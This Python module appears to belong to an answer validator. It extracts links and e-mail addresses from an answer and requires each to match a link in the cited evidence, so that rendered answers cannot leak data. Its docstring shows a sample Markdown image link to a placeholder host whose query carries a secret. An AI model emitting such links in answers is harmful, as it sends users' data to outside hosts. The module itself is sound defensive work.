"""Links in text: what the validator requires an answer's evidence to hold.

A link in an answer is a claim of its own (where to read more), and a Markdown image or an
HTML tag in a rendered answer makes the reader's client fetch it: ``![x](https://host/p.png?
q=secret)`` would leak whatever the query carries. So every link a sentence holds must be a
link of the evidence it cites, whole: the same address, compared as a browser would read it
(scheme and host without regard to case, "www." and a final "/" aside; the path and query as
written). Pure functions; no service imports.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Final

# Schemes a client follows or runs; "note:" or "Section:420" are not links.
_SCHEMES: Final = "https?|ftps?|file|wss?|mailto|javascript|vbscript|data|blob|tel|sms|ipfs|gopher"
# A URL body: no spaces, quotes or angle brackets; parentheses only balanced, one level deep
# (a Markdown target's closing ")" ends it, "p_(a)" stays whole).
_BODY: Final = r"(?:[^\s<>\"'`()\[\]{}]|\([^\s<>\"'`()]*\))+"
_LINK: Final = re.compile(
    rf"(?:\b(?:{_SCHEMES}):(?:/{{1,3}}|\\{{1,3}})?|(?<![\w:/\\])//(?=\w)|\bwww\.){_BODY}",
    re.IGNORECASE,
)
# Punctuation that ends a sentence or clause after a link rather than belonging to it.
_TRAILING: Final = ".,;:!?"
LinkKey = tuple[str, str, str]
_SPLIT: Final = re.compile(
    r"^(?:([a-z][a-z0-9+.-]*):)?[/\\]*([^/\\?#]*)(.*)$", re.IGNORECASE | re.S
)


# A bare e-mail address, which Markdown renderers (GitHub's among them) turn into a mail link.
_EMAIL: Final = re.compile(
    r"(?<![\w.+-])[\w.+-]+@[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\.[A-Za-z0-9-]+)+"
)


def links(text: str) -> list[str]:
    """The links in ``text``, in order, without the punctuation that follows them; a bare
    e-mail address (one no link holds) as the ``mailto:`` link a renderer makes of it."""
    found = [(m.start(), m.end(), m.group().rstrip(_TRAILING)) for m in _LINK.finditer(text)]
    if "@" in text:
        found += [
            (m.start(), m.end(), "mailto:" + m.group().rstrip(_TRAILING))
            for m in _EMAIL.finditer(text)
            if not any(start <= m.start() < end for start, end, _ in found)
        ]
        found.sort()
    return [link for _, _, link in found]


def _key(link: str) -> LinkKey:
    """A link as compared: its scheme family, host and the rest as written (backslashes read as
    slashes, a final "/" dropped, http and https one family, "www." aside)."""
    match = _SPLIT.match(link.replace("\\", "/"))
    assert match is not None  # the pattern matches any string
    scheme, host, rest = match.groups()
    scheme = (scheme or "").casefold()
    if not scheme and host.casefold().startswith("www."):
        scheme = "http"
    family = "http" if scheme in ("http", "https", "") else scheme
    host = host.casefold().removeprefix("www.")
    return family, host, rest.rstrip("/")


def held_links(evidence: Iterable[str]) -> frozenset[LinkKey]:
    """Every link of ``evidence``, as compared (build once, ask ``not_held`` often)."""
    return frozenset(_key(link) for passage in evidence for link in links(passage))


def not_held(found: Sequence[str], held: frozenset[LinkKey]) -> list[str]:
    """The links of ``found`` (``links`` of a text) not among ``held``, each reported once."""
    return [link for link in dict.fromkeys(found) if _key(link) not in held]


def links_not_in(text: str, evidence: Iterable[str]) -> list[str]:
    """The links of ``text`` that are not links of ``evidence`` (each reported once; the
    evidence is read only when ``text`` holds a link)."""
    found = links(text)
    return not_held(found, held_links(evidence)) if found else []
